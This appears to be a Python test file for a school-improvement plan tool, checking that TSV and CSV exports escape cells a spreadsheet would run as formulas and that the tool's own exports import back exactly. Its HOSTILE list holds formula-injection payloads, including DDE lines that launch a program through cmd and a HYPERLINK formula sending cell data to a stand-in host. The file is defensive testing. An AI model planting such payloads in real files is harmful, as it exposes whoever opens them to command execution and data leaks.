"""Issue 25 item 7: no table a spreadsheet opens runs plan text as a formula, and `plan
import` of the tool's own export stays exact (model.inert / live)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from ofsted_plan.model import (
    FORMULA_STARTS,
    Action,
    Plan,
    Recommendation,
    Status,
    Theme,
    inert,
    live,
)
from ofsted_plan.planfile.writer import dump_plan, plan_to_data
from ofsted_plan.render.council_table import table_text as plan_tsv

from .helpers import run

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "'already quoted",
]


def hostile_plan() -> Plan:
    actions = [
        Action(ref=f"1.{n}", action=text, measure=text, comments=text, status=Status.RED)
        for n, text in enumerate(HOSTILE, 1)
    ]
    return Plan(
        title="=1+1",
        notes=["@note"],
        themes=[Theme("-Theme", [Recommendation("=Recommendation()", actions)])],
    )


def cells(table: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(table, newline=""), delimiter="\t") for c in row]


def test_tsv_export_writes_no_cell_a_spreadsheet_runs(tmp_path: Path) -> None:
    path = tmp_path / "plan.yaml"
    path.write_text(dump_plan(hostile_plan()), encoding="utf-8")
    result = run("export", "-p", str(path), "--format", "tsv")
    assert result.exit_code == 0, result.stderr
    written = cells(result.stdout)
    assert "'=cmd|' /C calc'!A0" in written and "'-2+3+cmd|' /C calc'!A0" in written
    assert "''already quoted" in written and "'=1+1" in written and "'-Theme" in written
    assert not [c for c in written if c.startswith(FORMULA_STARTS)]
    # CSV already was (render/data.inert)
    result = run("list", "-p", str(path), "--format", "csv")
    assert not [c for c in cells(result.stdout.replace(",", "\t")) if c.startswith("=")]


@given(st.text())
def test_inert_is_inert_and_live_undoes_it(text: str) -> None:
    assert not inert(text).startswith(FORMULA_STARTS)
    assert live(inert(text)) == text


def test_own_export_with_formula_text_imports_back_exactly(tmp_path: Path) -> None:
    from ofsted_plan.importing.importer import parse_table

    plan = hostile_plan()
    assert plan_to_data(parse_table(plan_tsv(plan))) == plan_to_data(plan)
